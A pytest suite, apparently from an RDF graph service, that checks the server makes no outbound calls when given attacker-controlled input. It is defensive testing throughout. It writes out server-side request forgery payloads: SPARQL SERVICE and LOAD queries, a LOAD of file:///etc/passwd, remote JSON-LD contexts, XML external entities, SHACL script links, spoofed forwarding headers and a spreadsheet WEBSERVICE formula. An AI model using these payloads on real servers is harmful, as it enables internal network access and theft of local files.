"""Doors beside ``SERVICE`` by which somebody could have us call them: nobody is called."""

# ruff: noqa: E501, S608 - an attack is read as it is sent

import io
import json
import socket
import zipfile
from collections.abc import Iterator
from urllib.parse import quote

import pytest

from graph_service.sheets.foreign import Bounds, read_foreign
from tests.hostile.world import HEAD, OWN, Attacker, open_world
from tests.partners.serving import Acting, acting, whole
from tests.sheets.filled import make_book

pytestmark = [pytest.mark.hostile, pytest.mark.slow]
MINE = OWN + "mine"
AT = f"/graphs?graph={quote(MINE, safe='')}"
RDF = 'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"'
ASK = quote("ASK { ?s ?p ?o }")


@pytest.fixture(scope="module")
def attacker(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attacker]:
    """Return somebody with a token for a few graphs."""
    with open_world(tmp_path_factory.mktemp("world")) as found:
        yield found


@pytest.fixture(scope="module")
def listener() -> Iterator[Acting]:
    """Return who would be called, at every address of this machine."""
    with acting(whole(), everywhere=True) as made:
        yield made


def led(text: str, listener: Acting) -> str:
    """Return a text that leads to the listener."""
    return text.replace("ADDRESS", listener.endpoint).replace("PORT", str(listener.port))


UPDATES = {
    "insert": "INSERT { GRAPH <MINE> { ?s ?p ?o } } WHERE { SERVICE <ADDRESS> { ?s ?p ?o } }",
    "insert, silent": "INSERT { GRAPH <MINE> { ?s ?p ?o } } WHERE { SERVICE SILENT <ADDRESS> { ?s ?p ?o } }",
    "delete": "DELETE { GRAPH <MINE> { ?s ?p ?o } } WHERE { SERVICE <ADDRESS> { ?s ?p ?o } }",
    "delete where": "DELETE WHERE { SERVICE <ADDRESS> { ?s ?p ?o } }",
    "with": "WITH <MINE> DELETE { ?s ?p 1 } INSERT { ?s ?p 2 } WHERE { OPTIONAL { SERVICE <ADDRESS> { ?s ?p ?o } } }",
    "exists": "DELETE { GRAPH <MINE> { ?s ?p ?o } } WHERE { GRAPH <MINE> { ?s ?p ?o } FILTER EXISTS { SERVICE <ADDRESS> { ?s ?p ?o } } }",
    "sub-select": "INSERT { GRAPH <MINE> { ?s ?p 1 } } WHERE { SELECT * { SERVICE <ADDRESS> { ?s ?p ?o } } }",
    "second operation": "INSERT DATA { GRAPH <MINE> { <urn:a> <urn:b> 1 } } ; INSERT { GRAPH <MINE> { ?s ?p 1 } } WHERE { SERVICE <ADDRESS> { ?s ?p ?o } }",
    "escaped": "INSERT { GRAPH <MINE> { ?s ?p 1 } } WHERE { \\u0053ERVICE <ADDRESS> { ?s ?p ?o } }",
    "variable": "INSERT { GRAPH <MINE> { ?s ?p 1 } } WHERE { BIND(<ADDRESS> AS ?x) SERVICE ?x { ?s ?p ?o } }",
    "load": "LOAD <ADDRESS>",
    "load, silent": "LOAD SILENT <ADDRESS> INTO GRAPH <MINE>",
    "load of a file": "LOAD <file:///etc/passwd> INTO GRAPH <MINE>",
    "load in small letters": "load <ADDRESS> into graph <MINE>",
    "load by base": "BASE <ADDRESS> LOAD <> INTO GRAPH <MINE>",
    "load by prefix": "PREFIX e: <ADDRESS> LOAD e: INTO GRAPH <MINE>",
}


@pytest.mark.parametrize("name", UPDATES)
@pytest.mark.parametrize("who", ["partner", "staff", None])
def test_update_calls_nobody(
    attacker: Attacker, listener: Acting, name: str, who: str | None
) -> None:
    """Nor does it change anything, whoever sends it."""
    before = attacker.digest()
    text = led(UPDATES[name].replace("MINE", MINE), listener)
    answer = attacker.update(text, who)
    assert answer.status_code in ((401,) if who is None else (400, 403)), answer.text
    assert attacker.digest() == before
    assert listener.connections == 0


JSONLD, XML = "application/ld+json", "application/rdf+xml"
BODIES = {
    "context": (JSONLD, '{"@context": "ADDRESS", "@id": "urn:a", "urn:p": 1}'),
    "context of a file": (JSONLD, '{"@context": "file:///etc/passwd", "@id": "urn:a", "urn:p": 1}'),
    "context in a list": (JSONLD, '{"@context": [{}, "ADDRESS"], "@id": "urn:a", "urn:p": 1}'),
    "context inside": (
        JSONLD,
        '{"@id": "urn:a", "urn:p": {"@context": "ADDRESS", "@id": "urn:b", "urn:p": 1}}',
    ),
    "context by its base": (
        JSONLD,
        '{"@context": [{"@base": "ADDRESS"}, "x"], "@id": "urn:a", "urn:p": 1}',
    ),
    "context of a term": (
        JSONLD,
        '{"@context": {"p": {"@id": "urn:p", "@context": "ADDRESS"}}, "@id": "urn:a", "p": {"p": 1}}',
    ),
    "import": (
        JSONLD,
        '{"@context": {"@version": 1.1, "@import": "ADDRESS"}, "@id": "urn:a", "urn:p": 1}',
    ),
    "document type": (XML, f'<!DOCTYPE rdf:RDF SYSTEM "ADDRESS"><rdf:RDF {RDF}/>'),
    "public document type": (XML, f'<!DOCTYPE rdf:RDF PUBLIC "x" "ADDRESS"><rdf:RDF {RDF}/>'),
    "entity": (
        XML,
        f'<!DOCTYPE r [<!ENTITY x SYSTEM "ADDRESS">]><rdf:RDF {RDF} xmlns:e="urn:"><rdf:Description rdf:about="urn:a"><e:p>&x;</e:p></rdf:Description></rdf:RDF>',
    ),
    "parameter entity": (XML, f'<!DOCTYPE r [<!ENTITY % x SYSTEM "ADDRESS"> %x;]><rdf:RDF {RDF}/>'),
    "imports": ("text/turtle", HEAD + "<urn:x> a owl:Ontology ; owl:imports <ADDRESS> ."),
    "shapes graph": (
        "text/turtle",
        HEAD + "<urn:x> sh:shapesGraph <ADDRESS> ; sh:suggestedShapesGraph <ADDRESS> .",
    ),
    "shape with a call": (
        "text/turtle",
        HEAD
        + '<urn:x> a sh:NodeShape ; sh:targetNode <urn:x> ; sh:sparql [ sh:select "SELECT $this { SERVICE <ADDRESS> { ?s ?p ?o } }" ] .',
    ),
    "shape with a target": (
        "text/turtle",
        HEAD
        + '<urn:x> a sh:NodeShape ; sh:target [ a sh:SPARQLTarget ; sh:select "SELECT ?this { SERVICE <ADDRESS> { ?this ?p ?o } }" ] .',
    ),
    "script": (
        "text/turtle",
        HEAD
        + '<urn:x> a sh:NodeShape ; sh:js [ sh:jsLibrary [ sh:jsLibraryURL "ADDRESS"^^xsd:anyURI ] ; sh:jsFunctionName "f" ] .',
    ),
    "see also": (
        "text/turtle",
        HEAD
        + "<urn:x> rdfs:seeAlso <ADDRESS> ; rdfs:isDefinedBy <ADDRESS> ; foaf:page <ADDRESS> .",
    ),
    "named graph": ("application/trig", "<ADDRESS> { <ADDRESS> <ADDRESS> <ADDRESS> }"),
    "stylesheet": (
        XML,
        f'<?xml-stylesheet href="ADDRESS"?><rdf:RDF {RDF} xml:base="ADDRESS"><rdf:Description rdf:about="x" rdf:type="ADDRESS"/></rdf:RDF>',
    ),
    "inclusion": (
        XML,
        f'<rdf:RDF {RDF} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="ADDRESS"/></rdf:RDF>',
    ),
}


@pytest.mark.parametrize("name", BODIES)
@pytest.mark.parametrize(
    ("method", "path"),
    [("PUT", AT), ("POST", "/validate"), ("POST", "/contributions")],
)
def test_body_has_nobody_called(
    attacker: Attacker, listener: Acting, name: str, method: str, path: str
) -> None:
    """What it leads to is not fetched: the body is refused, or stands for itself."""
    kind, text = BODIES[name]
    answer = attacker.send(
        method,
        path,
        led(text, listener),
        kind,
    )
    assert answer.status_code < 500, answer.text
    assert "root:" not in answer.text
    if kind == JSONLD or "entity" in name or "document type" in name:
        assert answer.status_code in (400, 415), answer.text
    assert listener.connections == 0


PATHS = [
    f"/sparql?query={ASK}&default-graph-uri=ADDRESS",
    f"/sparql?query={ASK}&named-graph-uri=ADDRESS",
    "/sparql?query=" + quote("SELECT * FROM <ADDRESS> { ?s ?p ?o }"),
    "/sparql?query=" + quote("SELECT * FROM NAMED <ADDRESS> { GRAPH ?g { ?s ?p ?o } }"),
    "/sparql?query=" + quote("DESCRIBE <ADDRESS>"),
    "/graphs?graph=ADDRESS",
    "/queries/resource-neighbourhood?resource=ADDRESS",
    "/queries/identity-judgements?resource=ADDRESS",
    "/reconcile?queries=" + quote('{"q": {"query": "ADDRESS"}}'),
    "/reconcile?extend=" + quote('{"ids": ["ADDRESS"], "properties": [{"id": "ADDRESS"}]}'),
    "/reconcile?callback=ADDRESS",
    "/reconcile/preview?id=ADDRESS",
    "/reconcile/view?id=ADDRESS",
    "/reconcile/suggest/entity?prefix=ADDRESS",
    "/reconcile/flyout/entity?id=ADDRESS",
    "/reconcile/properties?type=ADDRESS",
    "/search?q=ADDRESS",
    "/id/ADDRESS",
    "/doc/ADDRESS",
    "/doc/graph/ADDRESS",
    "/graph/ADDRESS",
    "/.well-known/genid/ADDRESS",
    "/exports/ADDRESS",
    "/changes?since=ADDRESS",
    "/validate?url=ADDRESS",
    "/validate?data=ADDRESS&shapes=ADDRESS",
]


@pytest.mark.parametrize("path", PATHS)
def test_parameter_has_nobody_called(attacker: Attacker, listener: Acting, path: str) -> None:
    """An IRI names a thing; nobody goes to see what is there."""
    for who in ("reader", None):
        answer = attacker.send(
            "GET",
            path.replace("ADDRESS", quote(listener.endpoint, safe="")),
            who=who,
        )
        assert answer.status_code < 500, answer.text
    assert listener.connections == 0


HEADERS = [
    {"Host": "127.0.0.1:PORT"},
    {"X_Forwarded_Host": "127.0.0.1:PORT"},
    {"X_Forwarded_For": "127.0.0.1:PORT"},
    {"Forwarded": 'for="127.0.0.1:PORT";host="127.0.0.1:PORT"'},
    {"X_Original_URL": "ADDRESS"},
    {"Origin": "http://127.0.0.1:PORT"},
    {"Referer": "ADDRESS"},
    {"Accept_Profile": "<ADDRESS>"},
    {"Link": '<ADDRESS>; rel="http://www.w3.org/ns/json-ld#context"; type="application/ld+json"'},
    {"Content_Location": "ADDRESS"},
    {"Prefer": 'return=representation; include="ADDRESS"'},
    {"Proxy": "ADDRESS"},
    {"Reporting_Endpoints": 'default="ADDRESS"'},
]


@pytest.mark.parametrize("headers", HEADERS, ids=lambda each: next(iter(each)))
def test_header_has_nobody_called(
    attacker: Attacker, listener: Acting, headers: dict[str, str]
) -> None:
    """Of a request that reads, and of one whose body is JSON that could have its context there."""
    named = {name: led(value, listener) for name, value in headers.items()}
    assert attacker.send("GET", f"/sparql?query={ASK}", **named).status_code < 500
    body = json.dumps({"@id": "urn:a", "label": "x"})
    kind = "application/json" if "Link" in named else JSONLD
    assert attacker.send("PUT", AT, body, kind, **named).status_code < 500
    assert listener.connections == 0


def test_spreadsheet_has_nobody_called(listener: Acting) -> None:
    """Formulas, links, pictures and other workbooks that a file leads to are not followed."""
    book = make_book(1)
    page = book.page("incidents")
    formula = page.cell(4, book.place("incidents", "locator"))
    formula.value = f'=WEBSERVICE("{listener.endpoint}")'
    page.cell(4, book.place("incidents", "label")).hyperlink = listener.endpoint
    linked = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(book.bytes())) as old, zipfile.ZipFile(linked, "w") as new:
        for name in old.namelist():
            data = old.read(name)
            if name == "xl/_rels/workbook.xml.rels":
                kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
                more = f'<Relationship Id="rIdX" Type="{kind}/externalLinkPath" Target="{listener.endpoint}" TargetMode="External"/></Relationships>'
                data = data.replace(b"</Relationships>", more.encode())
            new.writestr(name, data)
    assert list(read_foreign(linked.getvalue(), Bounds()))
    assert listener.connections == 0


def test_listener_hears_who_calls(listener: Acting) -> None:
    """By IPv4 and, where there is one, by IPv6: zero calls are not those of a deaf one."""
    for host in ("127.0.0.1", "127.0.0.2", "::1") if socket.has_ipv6 else ("127.0.0.1",):
        before = listener.connections
        with socket.create_connection((host, listener.port)) as connection:
            connection.sendall(b"GET / HTTP/1.1\r\n\r\n")
            assert connection.recv(100).startswith(b"HTTP/1.1 200")
        assert listener.connections == before + 1
    listener.connections = 0
